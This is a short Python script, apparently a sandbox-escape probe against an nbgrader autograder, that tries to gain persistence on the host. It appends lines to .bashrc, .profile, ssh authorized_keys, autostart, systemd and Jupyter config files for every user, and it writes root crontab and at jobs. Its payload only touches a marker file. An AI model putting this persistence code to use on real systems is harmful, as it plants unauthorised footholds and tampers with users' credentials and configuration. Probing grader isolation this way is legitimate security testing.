# tries: ~/.bashrc, ~/.profile, crontabs, autostart, systemd units and ssh keys
# worked: no (nbgrader 0.9.6 in one process)
import os
import pathlib
import subprocess

line = "\necho attack-left >> /tmp/attack-left\n"
for home in (pathlib.Path.home(), pathlib.Path("/root"), *pathlib.Path("/home").glob("*")):
    for name in (".bashrc", ".profile", ".ssh/authorized_keys", ".config/autostart/x.desktop", ".config/systemd/user/x.service", ".jupyter/jupyter_notebook_config.py"):
        try:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            with (home / name).open("a") as file:
                file.write(line)
        except OSError:
            pass
for place in ("/etc/cron.d/attack-left", "/var/spool/cron/crontabs/root", "/etc/crontab"):
    try:
        pathlib.Path(place).write_text("* * * * * root touch /tmp/attack-left\n")
    except OSError:
        pass
try:
    subprocess.run(["crontab", "-"], input=b"* * * * * touch /tmp/attack-left\n", timeout=2)
    subprocess.run(["at", "now"], input=b"touch /tmp/attack-left\n", timeout=2)
except (OSError, subprocess.SubprocessError):
    pass
